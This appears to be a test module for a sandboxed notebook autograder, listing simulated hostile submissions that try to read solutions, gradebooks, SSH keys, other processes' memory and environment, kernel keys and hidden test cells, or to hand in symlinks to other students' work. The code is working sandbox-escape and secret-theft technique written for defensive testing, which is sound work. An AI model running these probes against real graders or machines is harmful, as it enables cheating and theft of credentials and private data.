"""Leaks: submissions that look for secrets and for tests; nothing found may leave with them."""

import shutil
from pathlib import Path

from hostile_course import ASSIGNMENT, NOTEBOOK

from attacks import Attack

_MEMORY = r"""
LIBC = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def spans(pid):
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        area, rights, *_ = line.split()
        first, last = (int(each, 16) for each in area.split("-"))
        if rights.startswith("rw") and last - first < 50_000_000:
            yield first, last - first


def with_file(pid):
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for first, size in spans(pid):
            memory.seek(first)
            attempt(lambda: show(memory.read(size)))


def with_call(pid):
    for first, size in spans(pid):
        buffer = ctypes.create_string_buffer(min(size, 5_000_000))
        here, there = Span(ctypes.addressof(buffer), len(buffer)), Span(first, len(buffer))
        if LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            show(buffer.raw)


for pid in {AT["pid"], os.getppid(), 1}:
    attempt(with_file, pid)
    attempt(with_call, pid)
"""

_CALL = """
def call(family, address):
    with socket.socket(family) as found:
        found.settimeout(2)
        found.connect(address)
        found.sendall(b"hello")
        show(found.recv(1000))
"""

_OTHER_KERNEL = r"""
from ipykernel.connect import get_connection_file
own = os.path.realpath(get_connection_file())
tops = {AT["tmp"], str(Path(own).parents[1]), str(Path(own).parents[2])} - {"/", "/tmp"}
found = [os.path.join(top, name) for each in tops for top, _, names in os.walk(each)
         for name in names if re.fullmatch(r"kernel.*\.json", name)]
for path in found:
    if os.path.realpath(path) != own and AT["token"] in path:
        if attempt(Path(path).read_bytes):
            escaped("has the key of another kernel")
"""

_SPIES = {
    "double": """
        def double(x):
            print(In[-1], repr(In), file=sys.stdout)
            get_ipython().run_line_magic('history', '')
            Path('tests.txt').write_text(str(In))
            print(open('numbers.ipynb').read())
            raise ValueError(str(In))
        """,
    "spread": r"""
        import inspect, linecache, traceback


        def spread(values):
            frame = inspect.currentframe().f_back
            print(inspect.getsource(frame))
            print(linecache.getlines(frame.f_code.co_filename))
            traceback.print_stack()
            Path('out').mkdir(exist_ok=True)
            lines = linecache.getlines(frame.f_code.co_filename)
            Path('out/x.md').write_text(''.join(lines))
        """,
    "tidy": """
        from IPython.display import HTML, JSON, Markdown, display


        def tidy(frame):
            test = In[-1]
            display(HTML('<pre>' + test + '</pre>'), Markdown(test),
                    JSON({'a': [test]}), {'text/latex': test}, raw=False)
            display({'text/latex': test, 'image/svg+xml': '<svg><text>' + test + '</text></svg>',
                     'application/x-own': {test: test}, 'text/html': test}, raw=True,
                    metadata={'told': test})
        """,
    "ratio": """
        def ratio(part, whole):
            error = type(In[-1].replace(chr(0), ''), (Exception,), {})
            raise error(*In[-1].splitlines())
        """,
}


def link_in_place_of_notebook(folder: Path, root: Path) -> None:
    """The notebook is a link to that of another student."""
    (folder / NOTEBOOK).unlink()
    (folder / NOTEBOOK).symlink_to(root / "submitted" / "ada" / ASSIGNMENT / NOTEBOOK)


def link_in_place_of_student(folder: Path, root: Path) -> None:
    """The student's whole folder is a link to that of another student."""
    shutil.rmtree(folder.parent)
    folder.parent.symlink_to("ada")


def link_in_place_of_submission(folder: Path, root: Path) -> None:
    """The folder of the submission is a link to the solutions."""
    shutil.rmtree(folder)
    folder.symlink_to(root / "source" / ASSIGNMENT)


def link_to_everything(folder: Path, root: Path) -> None:
    """The folder of the submission is a link to all there is."""
    shutil.rmtree(folder)
    folder.symlink_to("/")


def links_beside_notebook(folder: Path, root: Path) -> None:
    """Links to what the grader can read lie beside the notebook."""
    (folder / "book.db").symlink_to(root / "gradebook.db")
    (folder / "all").symlink_to(root)
    (folder / "source.txt").symlink_to(root / "source" / "notes.txt")
    (folder / "way").symlink_to("../../..")


def _calls(*addresses: str) -> str:
    """A cell that asks a server at each address for what it knows."""
    return "\n".join([_CALL, *(f"attempt(call, {address})" for address in addresses)])


ATTACKS = (
    Attack("source", "The solutions are read.", first='take_all(AT["course"] + "/source")'),
    Attack("release", "Files of the course are read.", first='take_all(AT["course"] + "/release")'),
    Attack(
        "gradebook",
        "The gradebook is read as a file and as a database.",
        first="""
            import sqlite3
            book = AT["course"] + "/gradebook.db"
            take(book)
            with contextlib.suppress(Exception):
                show(str(sqlite3.connect(book).execute('SELECT * FROM student').fetchall()))
            """,
    ),
    Attack(
        "configuration",
        "The configuration is read.",
        first="""
            take(AT["course"] + "/nbgrader_config.py")
            for path in ('.', '..', '../..', '../../..'):
                take(path + '/nbgrader_config.py')
            """,
    ),
    Attack(
        "class",
        "The work of the others is read, handed in and graded.",
        first="""
            for step in ("submitted", "autograded", "feedback"):
                take_all(AT["course"] + "/" + step)
            """,
    ),
    Attack(
        "neighbours",
        "The folders in which others are being graded are read.",
        first="""
            here = Path.cwd()
            for folder in {AT["tmp"], *map(str, here.parents[:4])} - {"/"}:
                for top, _, names in os.walk(folder):
                    if not top.startswith(str(here)):
                        for name in names:
                            take(os.path.join(top, name))
            """,
        last="""
            for folder in Path.cwd().parents[:2]:
                take_all(folder)
            """,
    ),
    Attack(
        "home",
        "Home folders are read.",
        first="""
            import pwd
            for home in (AT["home"], os.environ.get("HOME", "")):
                if home:
                    take_all(home + '/.ssh')
            for user in attempt(pwd.getpwall) or []:
                if attempt(os.listdir, user.pw_dir) and user.pw_dir.startswith(('/root', '/home')):
                    escaped('lists the home folder ' + user.pw_dir)
            """,
    ),
    Attack(
        "temporary",
        "Temporary files of others are read.",
        first="""
            take_all(AT["tmp"])
            for top in ("/tmp", "/var/tmp"):
                for path in Path(top).glob('hostile-*/tmp/*'):
                    take(path)
            """,
    ),
    Attack(
        "environment",
        "The environment is read, that of the grader and all others.",
        first="""
            show(str(dict(os.environ)))
            for pid in ['self', *others()]:
                take(f'/proc/{pid}/environ')
                take(f'/proc/{pid}/task/{pid}/environ')
            show(str(attempt(subprocess.run, ['ps', 'auxewww'], capture_output=True)))
            """,
    ),
    Attack(
        "command-lines",
        "Command lines of all processes are read.",
        first="""
            for pid in others():
                take(f'/proc/{pid}/cmdline')
            if AT['pid'] in others() and Path(f'/proc/{AT["pid"]}/cmdline').read_bytes():
                escaped('sees a process outside')
            """,
    ),
    Attack("memory", "The memory of other processes is read.", first=_MEMORY),
    Attack(
        "ptrace",
        "Other processes are traced.",
        first="""
            LIBC = ctypes.CDLL(None)
            for pid in {AT['pid'], os.getppid()}:
                if LIBC.ptrace(0x4206, pid, 0, 0) == 0:
                    LIBC.ptrace(17, pid, 0, 0)
                    escaped('traces a process')
            """,
    ),
    Attack(
        "descriptors",
        "Open files are read, one's own and those of others.",
        first="""
            def told(path):
                if os.path.isfile(path) and os.access(path, os.R_OK):
                    with open(path, 'rb') as file:
                        show(file.read(1_000_000))


            for pid in ['self', *others()]:
                for number in attempt(os.listdir, f'/proc/{pid}/fd') or []:
                    attempt(told, f'/proc/{pid}/fd/{number}')
            for number in range(3, 300):
                found = attempt(os.pread, number, 1000, 0)
                show(found or b'')
            """,
    ),
    Attack(
        "roots",
        "The files of other processes are reached through /proc.",
        first="""
            for pid in ['self', 'thread-self', *others()]:
                for way in ('root', 'cwd'):
                    top = f'/proc/{pid}/{way}'
                    take(f'{top}/nbgrader_config.py')
                    take(f'{top}{AT["course"]}/nbgrader_config.py')
                    take(f'{top}{AT["home"]}/.ssh/id_ed25519')
            """,
    ),
    Attack(
        "handle",
        "A file is opened by its handle, without a path.",
        first="""
            LIBC = ctypes.CDLL(None, use_errno=True)
            handle = ctypes.create_string_buffer(136)
            ctypes.memmove(handle, (128).to_bytes(4, 'little'), 4)
            mount = ctypes.c_int()
            path = (AT['course'] + '/nbgrader_config.py').encode()
            if LIBC.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0) == 0:
                file = LIBC.open_by_handle_at(os.open('/', 0), handle, 0)
                show(attempt(os.read, file, 100_000) or b'')
            """,
    ),
    Attack(
        "tcp",
        "A server on this machine is asked.",
        first=_calls(
            "socket.AF_INET, ('127.0.0.1', AT['tcp'])",
            "socket.AF_INET6, ('::ffff:127.0.0.1', AT['tcp'])",
        ),
    ),
    Attack(
        "udp",
        "A word is sent out.",
        first="""
            def packets():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                    out.sendto(b"told", ("127.0.0.1", AT["udp"]))


            def raw():
                with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
                    escaped("has a raw socket")


            def routes():
                if len(Path("/proc/net/route").read_text().splitlines()) > 1:
                    escaped("sees the network")


            for each in (packets, raw, routes):
                attempt(each)
            """,
    ),
    Attack(
        "abstract",
        "A socket with an abstract name is asked.",
        first=_calls("socket.AF_UNIX, chr(0) + AT['abstract']"),
    ),
    Attack(
        "pathname",
        "A socket in the file system is asked.",
        first=_calls("socket.AF_UNIX, AT['pathname']")
        + "\nattempt(os.chdir, os.path.dirname(AT['pathname']))"
        + "\nattempt(call, socket.AF_UNIX, 'socket')",
    ),
    Attack(
        "shared-memory",
        "Memory that is shared by number or name is read.",
        first="""
            LIBC = ctypes.CDLL(None)
            LIBC.shmat.restype = ctypes.c_void_p
            for number in {AT['shared'], *range(64)}:
                where = LIBC.shmat(number, None, 0o10000)
                if where not in (None, ctypes.c_void_p(-1).value):
                    show(ctypes.string_at(where, 200))
            take_all('/dev/shm')
            """,
    ),
    Attack(
        "keyring",
        "The keys of the user are read.",
        first="""
            LIBC = ctypes.CDLL(None)
            add, request, control = {'x86_64': (248, 249, 250)}.get(
                os.uname().machine, (217, 218, 219))
            key = LIBC.syscall(control, 10, -4, b'user', b'hostile', 0)
            told = ctypes.create_string_buffer(200)
            if key > 0:
                LIBC.syscall(control, 8, -4, -3)
                LIBC.syscall(control, 11, key, told, 200)
            show(told.raw)
            """,
    ),
    Attack("other-kernel", "The key of another kernel is looked for.", first=_OTHER_KERNEL),
    Attack(
        "devices",
        "The disk, the memory and the log of the machine are opened.",
        first="""
            for path in ('/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda', '/proc/kcore'):
                if attempt(os.open, path, os.O_RDONLY):
                    escaped('opens ' + path)
            attempt(os.mknod, 'disk', 0o60600, os.stat('/').st_dev)
            if attempt(os.open, 'disk', os.O_RDONLY):
                escaped('opens the disk')
            attempt(os.unlink, 'disk')
            """,
    ),
    Attack(
        "programs",
        "Other programs read what Python may not.",
        first="""
            for words in (['cat'], ['dd', 'status=none'], ['env', '-i', 'tar', 'cO'],
                          ['sudo', '-n', 'cat'],
                          ['git', '-C', AT['course'], 'diff', '--no-index', '/dev/null']):
                path = AT['course'] + '/nbgrader_config.py'
                path = 'if=' + path if words[0] == 'dd' else path
                done = attempt(subprocess.run, [*words, path], capture_output=True, timeout=20)
                show(done.stdout if done else b'')
            """,
    ),
    Attack(
        "hard-link",
        "A file of the course is taken along as a hard link.",
        first="""
            for name in ('nbgrader_config.py', 'source/notes.txt', 'gradebook.db'):
                attempt(os.link, AT['course'] + '/' + name, 'taken-' + name.replace('/', '-'))
            """,
    ),
    Attack(
        "made-links",
        "The notebook leaves links for whoever collects its files.",
        first="""
            os.symlink(AT['course'] + '/nbgrader_config.py', 'configuration.txt')
            os.symlink(AT['course'], 'course')
            os.symlink('/proc/self/environ', 'environment.txt')
            os.symlink('/proc/self/root', 'root')
            os.makedirs('deep/er')
            os.symlink('../../../../..', 'deep/er/up')
            """,
    ),
    Attack(
        "swapped-folder",
        "The folder itself becomes a link to the course.",
        last="""
            import shutil
            here = os.getcwd()
            shutil.rmtree(here, ignore_errors=True)
            attempt(os.rename, here, here + '-away')
            attempt(os.symlink, AT['course'], here)
            """,
    ),
    Attack(
        "links",
        "Links are handed in.",
        first="""
            take_all('.')
            for name in os.listdir('.'):
                take(name)
                take_all(name)
            """,
        arrange=links_beside_notebook,
    ),
    Attack(
        "linked-notebook",
        "The notebook of another is handed in as a link.",
        arrange=link_in_place_of_notebook,
    ),
    Attack(
        "linked-student",
        "The folder of another student is handed in as a link.",
        arrange=link_in_place_of_student,
    ),
    Attack(
        "linked-folder",
        "The solutions are handed in as a link.",
        arrange=link_in_place_of_submission,
    ),
    Attack(
        "linked-machine",
        "The whole machine is handed in as a link.",
        arrange=link_to_everything,
    ),
    Attack("tests", "Answers tell the tests on, in all that a notebook can show.", answers=_SPIES),
    Attack(
        "tests-afterwards",
        "A last cell tells the tests on.",
        last="""
            print(In)
            In
            %history
            raise ValueError(In)
            """,
    ),
    Attack(
        "tests-as-source",
        "A page shows the tests as text of the notebook itself.",
        last=r"""
            from IPython.display import Markdown, display
            for each in In:
                display(Markdown('    ' + each.replace('\n', '\n    ')))
                print('\x1b[31m'.join(each[i:i + 5] for i in range(0, len(each), 5)))
                print(each.replace('assert', 'assert '), each.replace(' ', '\u00a0'))
            """,
    ),
)
